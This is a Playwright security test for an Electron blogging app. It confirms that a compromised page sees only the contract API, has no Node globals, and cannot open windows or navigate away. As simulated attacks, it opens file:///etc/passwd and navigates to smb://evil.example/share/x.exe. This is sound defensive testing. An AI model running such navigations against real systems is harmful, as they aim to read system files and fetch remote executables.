/**
 * The desktop window as a compromised page would find it (Electron only): the preload exposes
 * exactly the contract's names, Node's `require` and `process` are absent in the page and its
 * workers, and `window.open`, script navigation and link clicks open nothing inside the app (web
 * links go to the system browser, which is stubbed here so nothing really opens).
 * Elsewhere every test skips and says why: the Electron binary is missing, or this is browser mode.
 */
import { _electron, type ElectronApplication, type Page } from '@playwright/test';
import { API_METHODS } from '../shared/api/contract';
import { DESKTOP_METHODS } from '../shared/api/desktop';
import { HOSTILE_DIR } from '../electron/node/security/hostile';
import { findElectronBinary } from '../scripts/electron-binary.mjs';
import { test as base, expect, projectRoot } from './fixtures';

/** Names a page with Node integration or a leaky preload would see. */
const NODE_GLOBALS = ['require', 'process', 'module', 'exports', 'Buffer', 'global', '__dirname', '__filename'];
const LEAKS = ['ipcRenderer', 'electron', 'contextBridge', 'webFrame', 'shell', 'remote'];

interface Desktop {
  electronApp: ElectronApplication;
  window: Page;
}

const test = base.extend<{ desktop: Desktop }>({
  desktop: async ({ postsDir }, use, testInfo) => {
    if (testInfo.project.metadata.mode !== 'electron') {
      const reason = 'The preload, Node globals and window guards exist only in Electron; run the electron project.';
      console.log(`[desktop-security] skipped "${testInfo.title}": ${reason}`);
      testInfo.skip(true, reason);
      return;
    }
    const electron = findElectronBinary(projectRoot);
    if (!electron.ok) {
      console.log(`[electron] skipped "${testInfo.title}": no Electron binary (${electron.reason}).`);
      testInfo.skip(true, `No Electron binary: ${electron.reason}`);
      return;
    }
    const electronApp = await _electron.launch({
      executablePath: electron.path,
      args: [projectRoot, '--posts', postsDir],
      env: { ...process.env, POSTWRIGHT_USER_DATA: `${postsDir}-data` },
    });
    // The system browser is replaced by a recorder: a test must never open a real one.
    await electronApp.evaluate(({ shell }) => {
      const opened: string[] = [];
      (globalThis as unknown as { __opened: string[] }).__opened = opened;
      shell.openExternal = (url: string) => (opened.push(url), Promise.resolve());
    });
    await use({ electronApp, window: await electronApp.firstWindow() });
    await electronApp.close();
  },
});

test.use({ postsSource: HOSTILE_DIR });

function openedExternally(electronApp: ElectronApplication): Promise<string[]> {
  return electronApp.evaluate(() => [...(globalThis as unknown as { __opened: string[] }).__opened]);
}

test('the preload exposes exactly the contract names, and no Node or Electron object', async ({ desktop }) => {
  const { window: win } = desktop;
  await expect(win.getByRole('listbox', { name: 'Posts' })).toBeVisible();
  const seen = await win.evaluate(
    ([nodeGlobals, leaks]) => {
      const w = window as unknown as Record<string, unknown>;
      const names = (value: unknown) => Object.keys(value as object).sort();
      const kinds = (value: unknown) => [...new Set(Object.values(value as object).map((v) => typeof v))];
      return {
        blog: names(w.blog),
        desktop: names(w.desktop),
        blogEvents: names(w.blogEvents),
        kinds: [...kinds(w.blog), ...kinds(w.desktop), ...kinds(w.blogEvents)],
        present: [...nodeGlobals, ...leaks].filter((name) => name in w),
      };
    },
    [NODE_GLOBALS, LEAKS] as const,
  );
  expect(seen.blog).toEqual([...API_METHODS].sort());
  expect(seen.desktop).toEqual([...DESKTOP_METHODS, 'onCloseRequested'].sort());
  expect(seen.blogEvents).toEqual(['on']);
  expect([...new Set(seen.kinds)]).toEqual(['function']);
  expect(seen.present).toEqual([]);
});

test('require and process are absent in the page and in its workers', async ({ desktop }) => {
  const { window: win } = desktop;
  const list = win.getByRole('listbox', { name: 'Posts' });
  await list.locator('[role="option"][data-id="01-script-raw.md"]').click();
  await expect(win.getByRole('region', { name: 'Preview' })).toContainText('Hostile post 01 begins.');
  const probe = () => ({ require: typeof require, process: typeof process, module: typeof module });
  const undefinedAll = { require: 'undefined', process: 'undefined', module: 'undefined' };
  expect(await win.evaluate(probe)).toEqual(undefinedAll);
  // The preview and word-count workers start with the page; a worker that cannot load falls back to the page.
  const workers = win.workers();
  test.info().annotations.push({ type: 'workers checked', description: workers.map((w) => w.url()).join(' ') });
  for (const worker of workers) expect(await worker.evaluate(probe), worker.url()).toEqual(undefinedAll);
});

test('window.open, script navigation and link clicks open nothing inside the app', async ({ desktop }) => {
  const { electronApp, window: win } = desktop;
  const list = win.getByRole('listbox', { name: 'Posts' });
  const preview = win.getByRole('region', { name: 'Preview' });
  await expect(list).toBeVisible();
  const startUrl = win.url();
  expect(startUrl).toBe('app://postwright/');

  // What a script that got into the page would try.
  const opened = await win.evaluate(() => [
    window.open('https://example.com/opened') === null,
    window.open('file:///etc/passwd') === null,
    window.open('about:blank') === null,
  ]);
  expect(opened).toEqual([true, true, true]);
  await win.evaluate(() => {
    const link = document.createElement('a');
    link.href = 'https://example.com/clicked';
    link.target = '_blank';
    document.body.append(link);
    link.click();
    link.href = 'file:///etc/passwd';
    link.removeAttribute('target');
    link.click();
    link.remove();
    location.assign('smb://evil.example/share/x.exe');
  });

  // Every link left in the hostile posts' previews, clicked.
  for (const id of ['17-javascript-links.md', '51-climbing-links.md', '22-file-and-schemes.md']) {
    await list.locator(`[role="option"][data-id="${id}"]`).click();
    await expect(preview).toContainText(`Hostile post ${id.slice(0, 2)} begins.`);
    for (const link of (await preview.locator('a[href]').all()).slice(0, 10)) {
      await link.click({ timeout: 2000 }).catch(() => undefined);
    }
  }

  await expect(list).toBeVisible();
  expect(electronApp.windows()).toHaveLength(1);
  expect(win.url()).toBe(startUrl);
  expect(await win.evaluate(() => '__pwned' in window)).toBe(false);
  // Only web links reach the system browser; file:, smb:, about: and the posts' tricks never do.
  const external = await openedExternally(electronApp);
  expect(
    external.every((url) => /^https?:\/\/[^/]/.test(url) || url.startsWith('mailto:')),
    external.join(' '),
  ).toBe(true);
  expect(external).toContain('https://example.com/opened');
});
